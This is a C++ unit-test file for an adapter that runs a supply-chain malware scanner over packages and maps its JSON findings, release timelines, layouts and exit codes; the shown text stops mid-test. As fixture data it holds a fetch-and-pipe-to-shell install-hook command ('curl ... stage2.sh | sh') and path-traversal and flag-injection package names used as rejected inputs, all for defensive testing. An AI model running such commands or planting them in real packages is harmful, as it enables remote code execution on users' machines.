// postmortem as a consumer of the sandbox port: upstream's postmortem.rs tests, kept by
// name where they apply (upstream-today.md §2.2), plus the runs as data (RFC 0022 §4.2)
// and the plan run for real under the `none` runtime with a fake postmortem
// (tests/helpers/fake_postmortem.cc; the real one is not installable here).
#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "adapters/sandbox/blob.h"
#include "adapters/sandbox/none.h"
#include "adapters/scanners/postmortem.h"
#include "adapters/scanners/subprocess.h"
#include "archive_builder.h"

namespace batlehub::adapters {
namespace {

using core::Finding;
using core::FindingKind;
using core::PackageKind;
using core::ReasonCode;
using core::RunOutput;
using core::RunOutcome;
using core::SandboxError;
using core::ScannerError;
using core::Severity;
using nlohmann::json;
namespace t = batlehub::testing;

const std::string kFixtures = std::string(BATLEHUB_SOURCE_DIR) + "/tests/fixtures/postmortem/";

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

json fixture(const std::string& name) {
  auto j = parse_json(slurp(kFixtures + name));
  EXPECT_TRUE(j) << name;
  return j ? *j : json();
}

PostmortemOptions opts(bool timeline = false) {
  PostmortemOptions o;
  o.timeline = timeline;
  return o;
}

PostmortemScanner scanner(bool timeline = false) { return PostmortemScanner(opts(timeline)); }

core::ScanInput input(PackageKind kind, std::string name, std::string version, std::string artifact = "bytes") {
  core::ScanInput in;
  in.package = core::Package{kind, std::move(name), std::move(version), "sec"};
  in.artifact = memory_blob(std::move(artifact), "artifact");
  return in;
}

RunOutcome answered(int status, std::string out, std::string err = "") {
  RunOutput o;
  o.status = status;
  o.stdout_bytes = std::move(out);
  o.stderr_tail = std::move(err);
  return o;
}

RunOutcome failed(SandboxError::Kind k, std::string m) { return Unexpected(SandboxError{k, std::move(m)}); }

std::vector<ReasonCode> codes(const std::vector<Finding>& fs) {
  std::vector<ReasonCode> c;
  for (const Finding& f : fs) c.push_back(f.code);
  return c;
}

// ---------------------------------------------------------------------------------------
// The JSON mappings.

TEST(Postmortem, the_canary_run_maps_to_install_hook_and_malware_signal_findings) {
  const json doc = fixture("scan-canary.json");
  const std::vector<Finding> findings = scanner().map_scan(doc);
  ASSERT_EQ(findings.size(), 4u);

  std::vector<const Finding*> hooks, signals;
  for (const Finding& f : findings) {
    if (f.code == ReasonCode::kInstallHook) hooks.push_back(&f);
    if (f.code == ReasonCode::kMalwareSignal) signals.push_back(&f);
  }
  ASSERT_EQ(hooks.size(), 2u);
  EXPECT_TRUE(std::any_of(hooks.begin(), hooks.end(), [](const Finding* f) {
    return f->severity == Severity::kHigh && f->reference == "curl -s http://203.0.113.9/stage2.sh | sh";
  }));
  for (const Finding* f : hooks) EXPECT_EQ(f->kind, FindingKind::kInstallHook);
  ASSERT_EQ(signals.size(), 2u);
  EXPECT_TRUE(std::any_of(signals.begin(), signals.end(), [](const Finding* f) {
    return f->summary.find("obfuscation") != std::string::npos && f->summary.find("setup.js") != std::string::npos;
  }));
  for (const Finding* f : signals) EXPECT_EQ(f->kind, FindingKind::kMalwareSignal);
  for (const Finding& f : findings) EXPECT_EQ(f.scanner, "postmortem");

  // Summary = detail + " (<last three segments of location>)"; raw = the finding object.
  EXPECT_EQ(findings[0].summary, "npm `preinstall` script defined (node_modules/canary-pad/package.json)");
  EXPECT_EQ(findings[0].severity, Severity::kMedium);
  EXPECT_EQ(findings[0].reference, "node setup.js");
  EXPECT_EQ(findings[2].summary,
            "2 obfuscation signal(s): high-entropy, eval() (entropy 5.81) (canary-pad/lib/setup.js)");
  EXPECT_FALSE(findings[2].reference);
  EXPECT_EQ(json::parse(findings[1].raw), doc["findings"][1]);

  // The same document through parse(): exit 1 is the gate tripping, an answer.
  auto viaparse = scanner().parse(input(PackageKind::kNpm, "canary-pad", "1.3.1"),
                                  {answered(1, slurp(kFixtures + "scan-canary.json"))});
  ASSERT_TRUE(viaparse) << viaparse.error().message;
  EXPECT_EQ(*viaparse, findings);
}

TEST(Postmortem, findings_carry_the_configured_scanner_name) {
  PostmortemOptions o;
  o.name = "pm-strict";
  auto fs = PostmortemScanner(o).map_scan(fixture("scan-canary.json"));
  ASSERT_EQ(fs.size(), 4u);
  for (const Finding& f : fs) EXPECT_EQ(f.scanner, "pm-strict");
}

TEST(Postmortem, categories_severities_summaries_and_evidence_map_as_upstream) {
  const std::string long_evidence(200, 'e');
  // 119 ASCII characters then multi-byte ones: the cut is at 120 characters, not bytes.
  const std::string utf8_evidence = std::string(119, 'a') + "\u00e9\u00e9\u00e9";
  json doc = {
      {"findings",
       {
           {{"category", "ioc"}, {"severity", "HIGH"}, {"detail", "known C2 address"}, {"location", "a/b/c/d/e.js"}},
           {{"category", "persistence"}, {"severity", "low"}, {"detail", "cron entry"}},
           {{"category", "sensitive_api"}, {"severity", "moderate"}, {"detail", "reads env"}, {"location", "x.js"}},
           {{"category", "typosquat"}, {"severity", "critical"}, {"detail", "close to lodash"}, {"location", "/w/p"}},
           {{"category", "obfuscation"}, {"severity", "bogus"}, {"location", "/a/b"}},
           {{"category", "install_hook"}, {"evidence", long_evidence}, {"location", ""}},
           {{"category", "obfuscation"}, {"severity", 7}, {"evidence", utf8_evidence}},
       }}};
  auto fs = scanner().map_scan(doc);
  ASSERT_EQ(fs.size(), 7u);
  EXPECT_EQ(codes(fs),
            (std::vector<ReasonCode>{ReasonCode::kMalwareSignal, ReasonCode::kMalwareSignal, ReasonCode::kMalwareSignal,
                                     ReasonCode::kTyposquatSuspect, ReasonCode::kMalwareSignal,
                                     ReasonCode::kInstallHook, ReasonCode::kMalwareSignal}));
  EXPECT_EQ(fs[3].kind, FindingKind::kTyposquat);
  EXPECT_EQ(fs[5].kind, FindingKind::kInstallHook);

  EXPECT_EQ(fs[0].severity, Severity::kHigh);      // case-insensitive
  EXPECT_EQ(fs[1].severity, Severity::kLow);
  EXPECT_EQ(fs[2].severity, Severity::kMedium);    // moderate
  EXPECT_EQ(fs[3].severity, Severity::kCritical);
  EXPECT_EQ(fs[4].severity, Severity::kMedium);    // unparseable: medium
  EXPECT_EQ(fs[5].severity, Severity::kMedium);    // absent: medium
  EXPECT_EQ(fs[6].severity, Severity::kMedium);    // not a string: medium

  EXPECT_EQ(fs[0].summary, "known C2 address (c/d/e.js)");        // the last three segments
  EXPECT_EQ(fs[1].summary, "cron entry");                         // no location, no parentheses
  EXPECT_EQ(fs[2].summary, "reads env (x.js)");
  EXPECT_EQ(fs[3].summary, "close to lodash (/w/p)");              // "", "w", "p": three segments
  EXPECT_EQ(fs[4].summary, "obfuscation (/a/b)");                  // no detail: the category
  EXPECT_EQ(fs[5].summary, "install_hook");                        // an empty location adds nothing

  EXPECT_EQ(fs[5].reference, std::string(120, 'e'));
  EXPECT_EQ(fs[6].reference, std::string(119, 'a') + "\u00e9");
  EXPECT_FALSE(fs[0].reference);
}

// postmortem's Category enum (src/model.rs), every variant by its serde name, and its
// Severity enum: info, low, medium, high, critical.
TEST(Postmortem, every_category_postmortem_defines_maps_by_name_and_info_is_below_low) {
  struct Row {
    std::string category;
    std::optional<FindingKind> kind;  // nullopt: not a finding
    ReasonCode code;
  };
  const std::vector<Row> table{
      {"ioc", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
      {"obfuscation", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
      {"install_hook", FindingKind::kInstallHook, ReasonCode::kInstallHook},
      {"sensitive_api", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
      {"unsigned", FindingKind::kSignature, ReasonCode::kSignatureMissing},
      {"third_party_source", FindingKind::kPublisher, ReasonCode::kUntrustedPublisher},
      {"persistence", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
      {"weak_acl", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
      {"tamper", FindingKind::kProvenance, ReasonCode::kProvenanceInvalid},
      {"policy", FindingKind::kProvenance, ReasonCode::kProvenanceUnverifiable},
      {"outdated", std::nullopt, ReasonCode::kMalwareSignal},
      {"typosquat", FindingKind::kTyposquat, ReasonCode::kTyposquatSuspect},
  };
  for (const Row& r : table) {
    SCOPED_TRACE(r.category);
    json doc = {
        {"findings", {{{"category", r.category}, {"severity", "low"}, {"detail", "d"}, {"location", "/w/x.rb"}}}}};
    auto fs = scanner().map_scan(doc);
    if (!r.kind) {
      EXPECT_TRUE(fs.empty()) << "a newer version exists: says nothing about this one";
      continue;
    }
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].kind, *r.kind);
    EXPECT_EQ(fs[0].code, r.code);
    EXPECT_EQ(fs[0].severity, Severity::kLow) << "postmortem's severity stands";
    EXPECT_EQ(fs[0].summary, "d (/w/x.rb)");
  }

  // info: below low in postmortem's own order, counted in none of its verdicts; unknown is
  // what the finding model has below low. Never medium.
  for (const char* info : {"info", "INFO", "Info"}) {
    auto fs = scanner().map_scan(json{{"findings", {{{"category", "ioc"}, {"severity", info}}}}});
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, Severity::kUnknown) << info;
  }
  for (auto [given, want] : {std::pair{"low", Severity::kLow}, std::pair{"medium", Severity::kMedium},
                             std::pair{"high", Severity::kHigh}, std::pair{"critical", Severity::kCritical}}) {
    auto fs = scanner().map_scan(json{{"findings", {{{"category", "ioc"}, {"severity", given}}}}});
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].severity, want) << given;
  }
}

TEST(Postmortem, a_category_postmortem_did_not_define_is_a_scanner_error_finding_beside_the_others) {
  json doc = {
      {"findings",
       {
           {{"category", "some_new_category"}, {"severity", "low"}, {"detail", "new thing"}, {"location", "/a/b"}},
           {{"category", "ioc"}, {"severity", "high"}, {"detail", "C2"}},
           {{"severity", "high"}},
           {{"category", 7}, {"detail", "x"}},
       }}};
  auto fs = scanner().map_scan(doc);
  ASSERT_EQ(fs.size(), 4u);
  EXPECT_EQ(fs[0].kind, FindingKind::kScannerError);
  EXPECT_EQ(fs[0].code, ReasonCode::kScannerError);
  EXPECT_EQ(fs[0].severity, Severity::kHigh);
  EXPECT_EQ(fs[0].summary,
            "postmortem reported a category this adapter does not know ('some_new_category'): new thing (/a/b)");
  EXPECT_EQ(json::parse(fs[0].raw), doc["findings"][0]);
  EXPECT_EQ(fs[1].code, ReasonCode::kMalwareSignal) << "the known findings stand beside it";
  EXPECT_EQ(fs[2].code, ReasonCode::kScannerError) << "no category at all";
  EXPECT_EQ(fs[2].summary, "postmortem reported a category this adapter does not know ('')");
  EXPECT_EQ(fs[3].code, ReasonCode::kScannerError) << "a category that is not a string";
  // A hostile-length category is cut in the summary; raw keeps it whole.
  auto long_cat = scanner().map_scan(json{{"findings", {{{"category", std::string(500, 'c')}}}}});
  ASSERT_EQ(long_cat.size(), 1u);
  EXPECT_NE(long_cat[0].summary.find("('" + std::string(64, 'c') + "')"), std::string::npos);
  EXPECT_EQ(long_cat[0].summary.find(std::string(65, 'c')), std::string::npos);
}

TEST(Postmortem, a_document_without_a_findings_array_is_zero_findings) {
  for (const char* text : {R"({"schema_version":3,"root":"/work","ecosystems":["node"]})", R"({"findings":null})",
                           R"({"findings":{"a":1}})", R"([])", R"("findings")", R"({"findings":[]})"}) {
    auto j = parse_json(text);
    ASSERT_TRUE(j) << text;
    EXPECT_TRUE(scanner().map_scan(*j).empty()) << text;
    auto r = scanner().parse(input(PackageKind::kNpm, "x", "1"), {answered(0, text)});
    ASSERT_TRUE(r) << text;
    EXPECT_TRUE(r->empty()) << text;
  }
}

TEST(Postmortem, the_timeline_yields_the_transitions_at_the_scanned_version_only) {
  const json doc = fixture("timeline-left-pad.json");
  const PostmortemScanner s = scanner();

  // 1.1.0 is where left-pad changed hands and moved repository: two transitions on one release.
  auto at_110 = s.map_timeline(doc, "1.1.0");
  EXPECT_EQ(codes(at_110), (std::vector<ReasonCode>{ReasonCode::kPublisherChanged, ReasonCode::kRepositoryMoved}));
  for (const Finding& f : at_110) {
    EXPECT_EQ(f.kind, FindingKind::kTransition);
    EXPECT_EQ(f.severity, Severity::kMedium) << "transitions are medium alone";
    EXPECT_EQ(f.scanner, "postmortem");
  }
  EXPECT_EQ(at_110[0].summary, "publisher changed  westlac \u2192 stevemao (at 1.1.0)");
  EXPECT_EQ(json::parse(at_110[0].raw), doc["releases"][3]["events"][0]);

  EXPECT_EQ(codes(s.map_timeline(doc, "1.0.1")), std::vector<ReasonCode>{ReasonCode::kRepositoryMoved});

  auto at_130 = s.map_timeline(doc, "1.3.0");
  EXPECT_TRUE(at_130.empty()) << "deprecation is history, not a transition";
  EXPECT_TRUE(s.map_timeline(doc, "0.0.0").empty()) << "a first release is history too";

  auto gone = s.map_timeline(doc, "9.9.9");
  ASSERT_EQ(gone.size(), 1u);
  EXPECT_EQ(gone[0].code, ReasonCode::kUnpublishedUpstream);
  EXPECT_EQ(gone[0].kind, FindingKind::kTransition);
  EXPECT_EQ(gone[0].severity, Severity::kHigh);
  EXPECT_EQ(gone[0].summary, "version 9.9.9 is not in the registry's release history");
}

TEST(Postmortem, every_timeline_event_kind_upstream_knows_maps_to_its_code) {
  const std::vector<std::pair<std::string, std::optional<ReasonCode>>> table{
      {"publisher_changed", ReasonCode::kPublisherChanged},   {"maintainer_changed", ReasonCode::kPublisherChanged},
      {"script_added", ReasonCode::kInstallHookAdded},        {"install_script_added", ReasonCode::kInstallHookAdded},
      {"install_hook_added", ReasonCode::kInstallHookAdded},  {"repo_changed", ReasonCode::kRepositoryMoved},
      {"repository_changed", ReasonCode::kRepositoryMoved},  {"repository_moved", ReasonCode::kRepositoryMoved},
      {"dormancy", ReasonCode::kDormantRelease},              {"dormant", ReasonCode::kDormantRelease},
      {"dormant_release", ReasonCode::kDormantRelease},       {"provenance_removed", ReasonCode::kProvenanceRemoved},
      {"attestation_removed", ReasonCode::kProvenanceRemoved}, {"first_release", std::nullopt},
      {"deprecated", std::nullopt},                           {"Publisher_Changed", std::nullopt},
  };
  for (const auto& [kind, code] : table) {
    json doc = {{"releases", {{{"version", "2.0.0"}, {"events", {{{"kind", kind}}}}}}}};
    auto fs = scanner().map_timeline(doc, "2.0.0");
    if (!code) {
      EXPECT_TRUE(fs.empty()) << kind;
      continue;
    }
    ASSERT_EQ(fs.size(), 1u) << kind;
    EXPECT_EQ(fs[0].code, *code) << kind;
    EXPECT_EQ(fs[0].kind, FindingKind::kTransition);
    EXPECT_EQ(fs[0].severity, Severity::kMedium);
    EXPECT_EQ(fs[0].summary, kind + " (at 2.0.0)") << "no detail: the kind";
  }
  // No releases array: nothing (not "unpublished"); a release without events: nothing.
  EXPECT_TRUE(scanner().map_timeline(json{{"package", "x"}}, "1.0.0").empty());
  EXPECT_TRUE(scanner().map_timeline(json{{"releases", {{{"version", "1.0.0"}}}}}, "1.0.0").empty());
}

// ---------------------------------------------------------------------------------------
// The layouts and the runs, as data.

TEST(Postmortem, every_supported_kind_has_a_layout_and_the_lockfile_names_the_coordinate) {
  for (PackageKind kind : {PackageKind::kNpm, PackageKind::kPypi, PackageKind::kCargo, PackageKind::kRubygems,
                           PackageKind::kComposer, PackageKind::kGoproxy, PackageKind::kMaven}) {
    SCOPED_TRACE(std::string(core::to_string(kind)));
    EXPECT_TRUE(scanner().supports(kind));
    auto layout = postmortem_layout(kind, "left-pad", "1.3.1");
    ASSERT_TRUE(layout);
    EXPECT_NE(layout->lockfile.find("1.3.1"), std::string::npos) << layout->lockfile;
    EXPECT_NE(layout->lockfile.find("left-pad"), std::string::npos) << layout->lockfile;
    EXPECT_FALSE(layout->dir.starts_with('/'));
    EXPECT_TRUE(wire::RelPath::parse(layout->dir));

    // plan(): the artifact extracted at the layout dir with its wrapper stripped, the
    // lockfile and the manifest inline at the work root.
    auto in = input(kind, "left-pad", "1.3.1");
    auto plan = scanner().plan(in);
    ASSERT_TRUE(plan) << plan.error().message;
    ASSERT_EQ(plan->size(), 1u);
    const auto& entries = (*plan)[0].bundle.entries;
    ASSERT_EQ(entries.size(), layout->manifest_name ? 3u : 2u);
    EXPECT_EQ(entries[0].kind, wire::EntryKind::kArchive);
    EXPECT_EQ(entries[0].path.str(), layout->dir);
    EXPECT_TRUE(entries[0].strip_wrapper);
    EXPECT_EQ(entries[0].blob, in.artifact);
    EXPECT_EQ(entries[1].kind, wire::EntryKind::kInline);
    EXPECT_EQ(entries[1].path.str(), layout->lockfile_name);
    EXPECT_EQ(entries[1].bytes, layout->lockfile);
    if (layout->manifest_name) {
      EXPECT_EQ(entries[2].kind, wire::EntryKind::kInline);
      EXPECT_EQ(entries[2].path.str(), *layout->manifest_name);
      EXPECT_EQ(entries[2].bytes, layout->manifest);
    }
  }
  EXPECT_FALSE(postmortem_layout(PackageKind::kNuget, "x", "1"));
  EXPECT_FALSE(postmortem_layout(PackageKind::kConda, "x", "1"));
  EXPECT_FALSE(scanner().supports(PackageKind::kNuget));
  EXPECT_FALSE(scanner().supports(PackageKind::kConda));
  auto refused = scanner().plan(input(PackageKind::kNuget, "x", "1"));
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, ScannerError::Kind::kUnsupported);
  EXPECT_EQ(refused.error().message, "postmortem has no project layout for nuget");
}

TEST(Postmortem, the_seven_layouts_are_upstreams_byte_for_byte_but_cargos_dir) {
  struct Golden {
    PackageKind kind;
    std::string name, dir, lockfile_name, lockfile;
    std::optional<std::string> manifest_name;
    std::string manifest;
  };
  const std::vector<Golden> goldens{
      {PackageKind::kNpm, "@acme/left-pad", "node_modules/@acme/left-pad", "package-lock.json",
       R"({"lockfileVersion":3,"name":"batlehub-scan","packages":{"":{"dependencies":{"@acme/left-pad":"1.3.1"},)"
       R"("name":"batlehub-scan","version":"0.0.0"},"node_modules/@acme/left-pad":{"version":"1.3.1"}},)"
       R"("requires":true,"version":"0.0.0"})",
       "package.json", R"({"dependencies":{"@acme/left-pad":"1.3.1"},"name":"batlehub-scan","version":"0.0.0"})"},
      {PackageKind::kPypi, "left-pad", "site-packages/left_pad", "requirements.txt", "left-pad==1.3.1\n", std::nullopt,
       ""},
      // cargo alone differs from upstream: under src/, the one place postmortem reads Rust.
      {PackageKind::kCargo, "left-pad", "src/left-pad-1.3.1", "Cargo.lock",
       "# This file is automatically @generated by Cargo.\nversion = 4\n\n[[package]]\nname = \"left-pad\"\n"
       "version = \"1.3.1\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
       "Cargo.toml",
       "[package]\nname = \"batlehub-scan\"\nversion = \"0.0.0\"\n\n[dependencies]\nleft-pad = \"=1.3.1\"\n"},
      {PackageKind::kRubygems, "left-pad", "vendor/bundle/gems/left-pad-1.3.1", "Gemfile.lock",
       "GEM\n  remote: https://rubygems.org/\n  specs:\n    left-pad (1.3.1)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  "
       "left-pad\n",
       "Gemfile", "source \"https://rubygems.org\"\ngem \"left-pad\", \"1.3.1\"\n"},
      {PackageKind::kComposer, "acme/left-pad", "vendor/acme/left-pad", "composer.lock",
       R"({"packages":[{"name":"acme/left-pad","version":"1.3.1"}],"packages-dev":[]})", "composer.json",
       R"({"require":{"acme/left-pad":"1.3.1"}})"},
      {PackageKind::kGoproxy, "github.com/acme/left-pad", "vendor/github.com/acme/left-pad", "go.sum",
       "github.com/acme/left-pad 1.3.1 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n", "go.mod",
       "module batlehub-scan\n\ngo 1.22\n\nrequire github.com/acme/left-pad 1.3.1\n"},
      {PackageKind::kMaven, "org.acme:left-pad", "target/dependency/org.acme-left-pad", "pom.xml",
       "<project><modelVersion>4.0.0</modelVersion><groupId>batlehub</groupId><artifactId>scan</artifactId>"
       "<version>0.0.0</version><dependencies><dependency><groupId>org.acme</groupId><artifactId>left-pad</artifactId>"
       "<version>1.3.1</version></dependency></dependencies></project>\n",
       std::nullopt, ""},
  };
  for (const Golden& g : goldens) {
    SCOPED_TRACE(g.name);
    auto l = postmortem_layout(g.kind, g.name, "1.3.1");
    ASSERT_TRUE(l);
    EXPECT_EQ(l->dir, g.dir);
    EXPECT_EQ(l->lockfile_name, g.lockfile_name);
    EXPECT_EQ(l->lockfile, g.lockfile);
    EXPECT_EQ(l->manifest_name, g.manifest_name);
    EXPECT_EQ(l->manifest, g.manifest);
  }
  // go.sum's placeholder hash: 43 'A's and '='.
  auto go = postmortem_layout(PackageKind::kGoproxy, "m", "v1");
  EXPECT_EQ(go->lockfile, "m v1 h1:" + std::string(43, 'A') + "=\n");
  // A maven name without a group: group "unknown".
  auto bare = postmortem_layout(PackageKind::kMaven, "left-pad", "2");
  EXPECT_NE(bare->lockfile.find("<groupId>unknown</groupId><artifactId>left-pad</artifactId>"), std::string::npos);
  EXPECT_EQ(bare->dir, "target/dependency/left-pad");
}

TEST(Postmortem, the_scan_run_is_upstreams_argv_offline_labelled_and_limited_from_the_options) {
  PostmortemOptions o;
  o.name = "pm";
  o.command = "/opt/postmortem/bin/postmortem";
  o.timeline = false;
  o.limits.memory_limit_mb = 1024;
  o.limits.max_entries = 99;
  o.timeout = std::chrono::milliseconds(1234);
  auto plan = PostmortemScanner(o).plan(input(PackageKind::kPypi, "requests", "2.0.0"));
  ASSERT_TRUE(plan);
  ASSERT_EQ(plan->size(), 1u);
  const core::RunSpec& s = (*plan)[0];
  EXPECT_EQ(s.argv, (std::vector<std::string>{"/opt/postmortem/bin/postmortem", "scan", ".", "--json", "-o", "-",
                                              "--no-config", "--no-progress", "--severity", "critical"}));
  EXPECT_FALSE(s.network);
  EXPECT_EQ(s.label.scanner, "pm");
  EXPECT_EQ(s.label.job, "adhoc");
  EXPECT_EQ(s.label.attempt, 1);
  EXPECT_EQ(s.limits.memory_limit_mb, 1024u);
  EXPECT_EQ(s.limits.max_entries, 99u);
  EXPECT_EQ(s.timeout, std::chrono::milliseconds(1234));
  EXPECT_FALSE(s.image);

  o.online = true;
  auto online = PostmortemScanner(o).plan(input(PackageKind::kPypi, "requests", "2.0.0"));
  ASSERT_TRUE(online);
  EXPECT_EQ((*online)[0].argv.back(), "--enrich");
  EXPECT_EQ((*online)[0].argv.size(), 11u);
  EXPECT_TRUE((*online)[0].network) << "online: the scan run gets the network";
}

TEST(Postmortem, the_timeline_run_has_an_empty_bundle_and_the_network_while_the_scan_run_has_none) {
  PostmortemOptions o;
  o.name = "pm";
  o.command = "pmx";
  o.timeline = true;
  o.timeout = std::chrono::milliseconds(777);
  auto plan = PostmortemScanner(o).plan(input(PackageKind::kNpm, "left-pad", "1.3.0"));
  ASSERT_TRUE(plan);
  ASSERT_EQ(plan->size(), 2u);
  const core::RunSpec& scan = (*plan)[0];
  const core::RunSpec& timeline = (*plan)[1];
  EXPECT_FALSE(scan.network);
  EXPECT_EQ(scan.bundle.entries.size(), 3u);
  EXPECT_TRUE(timeline.network);
  EXPECT_TRUE(timeline.bundle.entries.empty()) << "the timeline never shares a filesystem with the artifact";
  EXPECT_EQ(timeline.argv, (std::vector<std::string>{"pmx", "timeline", "left-pad", "--json", "-o", "-", "--no-progress"}));
  EXPECT_EQ(timeline.label.scanner, "pm");
  EXPECT_EQ(timeline.label.job, "adhoc");
  EXPECT_EQ(timeline.label.attempt, 1);
  EXPECT_EQ(timeline.timeout, std::chrono::milliseconds(777));

  // npm only, and only when asked for.
  for (PackageKind k : {PackageKind::kPypi, PackageKind::kCargo, PackageKind::kRubygems, PackageKind::kComposer,
                        PackageKind::kGoproxy, PackageKind::kMaven}) {
    auto p = PostmortemScanner(o).plan(input(k, "left-pad", "1.3.0"));
    ASSERT_TRUE(p);
    EXPECT_EQ(p->size(), 1u) << core::to_string(k);
  }
  o.timeline = false;
  EXPECT_EQ(PostmortemScanner(o).plan(input(PackageKind::kNpm, "left-pad", "1.3.0"))->size(), 1u);
}

TEST(Postmortem, no_artifact_or_a_name_that_is_no_path_is_unsupported) {
  auto in = input(PackageKind::kNpm, "left-pad", "1.0.0");
  in.artifact = nullptr;
  auto none = scanner().plan(in);
  ASSERT_FALSE(none);
  EXPECT_EQ(none.error().kind, ScannerError::Kind::kUnsupported);
  EXPECT_EQ(none.error().message, "postmortem needs the artifact bytes and none were provided");

  for (const char* name : {"../../etc", "a/../b", "", "a//b", "/abs"}) {
    auto r = scanner().plan(input(PackageKind::kNpm, name, "1.0.0"));
    ASSERT_FALSE(r) << name;
    EXPECT_EQ(r.error().kind, ScannerError::Kind::kUnsupported) << name;
  }
  // cargo's dir carries the version too.
  EXPECT_FALSE(scanner().plan(input(PackageKind::kCargo, "x", "/../../y")));
}

TEST(Postmortem, a_name_that_reads_as_a_flag_gets_no_timeline) {
  auto p = scanner(/*timeline=*/true).plan(input(PackageKind::kNpm, "--registry=evil", "1.0.0"));
  ASSERT_TRUE(p);
  EXPECT_EQ(p->size(), 1u);
}

// ---------------------------------------------------------------------------------------
// Exit codes and failures.

TEST(Postmortem, exit_codes_0_and_1_are_answers_2_is_unsupported_others_and_signals_crashed) {
  const auto in = input(PackageKind::kNpm, "canary-pad", "1.3.1");
  const std::string doc = slurp(kFixtures + "scan-canary.json");
  for (int status : {0, 1}) {
    auto r = scanner().parse(in, {answered(status, doc)});
    ASSERT_TRUE(r) << status;
    EXPECT_EQ(r->size(), 4u);
  }
  // Exit 2 with postmortem's own words (src/cmd/scan.rs): no ecosystem at the path.
  auto two = scanner().parse(in, {answered(2, "", "no supported ecosystem detected at /work\n")});
  ASSERT_FALSE(two);
  EXPECT_EQ(two.error().kind, ScannerError::Kind::kUnsupported);
  EXPECT_EQ(
      two.error().message,
      "postmortem recognised no ecosystem in the materialised project (no supported ecosystem detected at /work)");
  // Exit 2 from clap refusing the command line (a postmortem that lacks a flag we pass):
  // not "unsupported", whatever stdout holds.
  for (const char* err :
       {"error: unexpected argument '--no-config' found\n\nUsage: postmortem scan [OPTIONS] <PATHS>...\n\n"
        "For more information, try '--help'.\n",
        "error: invalid value 'critical' for '--severity <SEVERITY>'\n", ""}) {
    auto clap = scanner().parse(in, {answered(2, doc, err)});
    ASSERT_FALSE(clap) << err;
    EXPECT_EQ(clap.error().kind, ScannerError::Kind::kOther) << err;
    EXPECT_TRUE(clap.error().message.starts_with("postmortem refused to scan (exit 2, not a missing ecosystem")) << err;
  }
  auto clap = scanner().parse(in, {answered(2, "", "error: unexpected argument '--no-config' found\n")});
  EXPECT_EQ(clap.error().message,
            "postmortem refused to scan (exit 2, not a missing ecosystem; its command line?): "
            "error: unexpected argument '--no-config' found");

  // Exit 1 with nothing on stdout: main() returned an error (anyhow's "Error: …"), not the gate.
  for (const char* out : {"", " \n"}) {
    auto failed_run =
        scanner().parse(in, {answered(1, out, "Error: cannot resolve path .: No such file or directory\n")});
    ASSERT_FALSE(failed_run);
    EXPECT_EQ(failed_run.error().kind, ScannerError::Kind::kCrashed);
    EXPECT_EQ(failed_run.error().message,
              "postmortem failed (exit 1, nothing on stdout): Error: cannot resolve path .: No such file or directory");
  }

  for (int status : {3, 101, 127, 255}) {
    auto r = scanner().parse(in, {answered(status, doc, "thread 'main' panicked\n")});
    ASSERT_FALSE(r) << status;
    EXPECT_EQ(r.error().kind, ScannerError::Kind::kCrashed);
    EXPECT_EQ(r.error().message, "postmortem exited " + std::to_string(status) + ": thread 'main' panicked");
  }
  // A scanner killed by a signal is a SandboxError from every runtime (run_dir.h's collect_tar),
  // never an output: it maps through to_scanner_error.
  auto signalled = scanner().parse(in, {failed(SandboxError::Kind::kCrashed, "postmortem was killed by signal 9")});
  ASSERT_FALSE(signalled);
  EXPECT_EQ(signalled.error().kind, ScannerError::Kind::kCrashed);
  EXPECT_EQ(signalled.error().message, "postmortem was killed by signal 9");
  for (auto [k, want] : {std::pair{SandboxError::Kind::kRunTimeout, ScannerError::Kind::kTimeout},
                         std::pair{SandboxError::Kind::kStartTimeout, ScannerError::Kind::kTimeout},
                         std::pair{SandboxError::Kind::kResultInvalid, ScannerError::Kind::kOutput},
                         std::pair{SandboxError::Kind::kBundleRefused, ScannerError::Kind::kOutput},
                         std::pair{SandboxError::Kind::kUnsupported, ScannerError::Kind::kUnsupported}}) {
    auto r = scanner().parse(in, {failed(k, "m")});
    ASSERT_FALSE(r);
    EXPECT_EQ(r.error().kind, want) << core::to_string(k);
  }
  EXPECT_FALSE(scanner().parse(in, {}));
}

TEST(Postmortem, stdout_that_is_not_json_is_an_output_error) {
  const auto in = input(PackageKind::kNpm, "x", "1");
  for (const char* out : {"", "postmortem 2.3.1: scanning…", "{\"findings\": [", "\xff\xfe{}"}) {
    auto r = scanner().parse(in, {answered(0, out)});
    ASSERT_FALSE(r) << out;
    EXPECT_EQ(r.error().kind, ScannerError::Kind::kOutput) << out;
    EXPECT_TRUE(r.error().message.starts_with("scanner output is not JSON")) << r.error().message;
  }
  // Bounded: a document nested past the limit is refused, not recursed into.
  auto deep = scanner().parse(in, {answered(1, std::string(100000, '[') + std::string(100000, ']'))});
  ASSERT_FALSE(deep);
  EXPECT_EQ(deep.error().kind, ScannerError::Kind::kOutput);
}

TEST(Postmortem, a_timeline_failure_leaves_the_scan_findings_standing) {
  const auto in = input(PackageKind::kNpm, "left-pad", "1.1.0");
  const std::string scan = slurp(kFixtures + "scan-canary.json");
  const PostmortemScanner s = scanner(/*timeline=*/true);
  for (const RunOutcome& timeline :
       {answered(1, "", "registry.npmjs.org: connection refused"), answered(2, "{}"), answered(1, "not json either"),
        failed(SandboxError::Kind::kRunTimeout, "killed"), failed(SandboxError::Kind::kStartTimeout, "no pod"),
        failed(SandboxError::Kind::kCrashed, "gone")}) {
    auto r = s.parse(in, {answered(1, scan), timeline});
    ASSERT_TRUE(r) << r.error().message;
    EXPECT_EQ(r->size(), 4u);
  }
